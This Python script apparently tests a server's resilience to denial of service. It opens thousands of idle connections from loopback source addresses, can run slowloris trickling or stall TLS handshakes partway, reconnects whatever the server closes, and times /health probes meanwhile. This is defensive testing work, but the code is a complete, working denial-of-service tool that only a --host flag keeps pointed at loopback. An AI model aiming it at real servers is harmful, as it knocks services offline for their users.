#!/usr/bin/python3
"""Idle-connection flood (issue 27, finding D5) and slowloris, with probes watching.

Opens --per-source idle connections (they connect and never send a byte) from each of
--sources loopback addresses (127.0.0.2, 127.0.0.3, ...; no setup needed on Linux) and holds
them. With --trickle SECONDS they are slowloris instead (issue 18): each sends
"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n..." a byte every SECONDS and never
finishes the head. Against a TLS listener, --hello sends the start of a handshake and stops there (issue 27:
half-open handshakes): `partial`, the first half of a real ClientHello; `big`, a handshake
header announcing a 128 KiB ClientHello and nothing after it. With --reopen, a connection the server closes is opened again at once (at most
--reopen-rate a second), so the flood keeps pressing. Meanwhile a prober opens a new connection
every --probe-interval seconds (0: no probes) and asks GET /health over plain HTTP (timeout
2 s): a probe fails when it gets no 200.

Prints one status line every --report seconds, and a last line at the end:
  held=N opened=N closed_by_server=N refused=N probes=N probe_failures=N probe_p99_ms=X
Runs for --duration seconds (0: until killed). Raises its own open-file limit to the hard limit.
"""
import argparse
import asyncio
import resource
import ssl
import sys
import time

HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


def client_hello():
    """A ClientHello as Python's TLS client writes it (TLS record included)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    out = ssl.MemoryBIO()
    tls = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def hello_bytes(kind):
    if kind == "partial":
        hello = client_hello()
        return hello[:len(hello) // 2]
    if kind == "big":
        # Record header (handshake, 16 KiB), then a ClientHello header announcing 128 KiB.
        return bytes([0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x02, 0x00, 0x00])
    return b""


class Stats:
    def __init__(self):
        self.held = 0
        self.opened = 0
        self.closed = 0
        self.refused = 0
        self.probes = 0
        self.probe_failures = 0
        self.probe_ms = []

    def line(self):
        p99 = sorted(self.probe_ms)[int(len(self.probe_ms) * 0.99)] if self.probe_ms else 0
        return (f"held={self.held} opened={self.opened} closed_by_server={self.closed} "
                f"refused={self.refused} probes={self.probes} "
                f"probe_failures={self.probe_failures} probe_p99_ms={p99:.2f}")


async def idle(host, port, source, args, stats, stop, bucket):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats.refused += 1
            await asyncio.sleep(1)
            continue
        stats.opened += 1
        stats.held += 1
        if args.hello_bytes:
            writer.write(args.hello_bytes)
        try:
            if args.trickle > 0:
                await trickle(reader, writer, args.trickle, stop)
            else:
                await reader.read(1)  # returns when the server closes (or resets) it
        except OSError:
            pass
        stats.held -= 1
        stats.closed += 1
        writer.close()
        if not args.reopen:
            return
        await bucket.get()  # --reopen-rate


async def trickle(reader, writer, interval, stop):
    """One byte of the head, then a filler header forever, until the server answers or closes."""
    i = 0
    while not stop.is_set():
        writer.write(HEAD[i:i + 1] if i < len(HEAD) else b"a")
        await writer.drain()
        i += 1
        try:
            await asyncio.wait_for(reader.read(4096), timeout=interval)
            return
        except asyncio.TimeoutError:
            pass


async def refill(bucket, rate, stop):
    while not stop.is_set():
        for _ in range(max(1, rate // 10)):
            if bucket.full():
                break
            bucket.put_nowait(None)
        await asyncio.sleep(0.1)


async def probe(host, port, stats):
    start = time.monotonic()
    ok = False
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 2)
        writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = await asyncio.wait_for(reader.read(4096), 2)
        ok = data.startswith(b"HTTP/1.1 200")
        writer.close()
    except (OSError, asyncio.TimeoutError):
        pass
    stats.probes += 1
    if ok:
        stats.probe_ms.append((time.monotonic() - start) * 1000)
    else:
        stats.probe_failures += 1


async def prober(host, port, interval, stats, stop):
    while not stop.is_set():
        asyncio.ensure_future(probe(host, port, stats))
        await asyncio.sleep(interval)


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--sources", type=int, default=11)
    ap.add_argument("--per-source", type=int, default=1000)
    ap.add_argument("--reopen", action="store_true")
    ap.add_argument("--reopen-rate", type=int, default=1000)
    ap.add_argument("--probe-interval", type=float, default=0.1)
    ap.add_argument("--report", type=float, default=5)
    ap.add_argument("--duration", type=float, default=0)
    ap.add_argument("--hello", choices=["none", "partial", "big"], default="none")
    ap.add_argument("--trickle", type=float, default=0,
                    help="slowloris: send the head a byte every this many seconds")
    args = ap.parse_args()
    args.hello_bytes = hello_bytes(args.hello)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stats = Stats()
    stop = asyncio.Event()
    bucket = asyncio.Queue(maxsize=max(1, args.reopen_rate))
    tasks = [asyncio.ensure_future(refill(bucket, args.reopen_rate, stop))]
    if args.probe_interval > 0:
        tasks.append(asyncio.ensure_future(
            prober(args.host, args.port, args.probe_interval, stats, stop)))
    for s in range(args.sources):
        source = f"127.0.0.{2 + s}"
        for i in range(args.per_source):
            tasks.append(asyncio.ensure_future(
                idle(args.host, args.port, source, args, stats, stop, bucket)))
            if i % 200 == 199:
                await asyncio.sleep(0.05)  # ramp up rather than a SYN flood
    start = time.monotonic()
    while args.duration == 0 or time.monotonic() - start < args.duration:
        await asyncio.sleep(args.report)
        print(stats.line(), flush=True)
    stop.set()
    print(stats.line(), flush=True)
    for t in tasks:
        t.cancel()


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(0)
